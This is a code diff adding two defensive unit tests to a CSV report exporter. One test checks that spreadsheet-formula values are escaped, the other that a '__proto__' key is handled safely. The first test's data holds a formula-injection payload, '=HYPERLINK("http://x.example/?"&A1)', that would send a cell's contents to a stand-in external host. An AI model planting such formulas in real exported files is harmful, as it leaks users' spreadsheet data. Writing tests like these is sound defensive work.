@@ -97,4 +97,39 @@ describe("report", () => {
     );
     expect(reportToCsv(states)).toBe("state,users\nTX,2\n,1\n");
   });
+
+  it("writes place names that a spreadsheet would run as formulas as text", () => {
+    const r = buildReport(
+      {
+        total: () => 3,
+        counts: () => [
+          ['=HYPERLINK("http://x.example/?"&A1), ??', 1],
+          ["@SUM(1+1), TX", 1],
+          ["-Minus, ??", 1],
+        ],
+      },
+      { by: "city" },
+      now,
+    );
+    expect(reportToCsv(r)).toBe(
+      'city,state,users\n"\'=HYPERLINK(""http://x.example/?""&A1)",,1\n\'@SUM(1+1),TX,1\n\'-Minus,,1\n',
+    );
+  });
+
+  it("counts a key named __proto__ like any other", () => {
+    const r = buildReport(
+      {
+        total: () => 3,
+        counts: () => [
+          ["US", 2],
+          ["__proto__", 1],
+        ],
+      },
+      { by: "country" },
+      now,
+    );
+    expect(Object.keys(r.stats)).toEqual(["US", "__proto__"]);
+    expect((JSON.parse(JSON.stringify(r)) as typeof r).stats).toEqual(r.stats);
+    expect(reportToCsv(r)).toBe("country,users\nUS,2\n__proto__,1\n");
+  });
 });
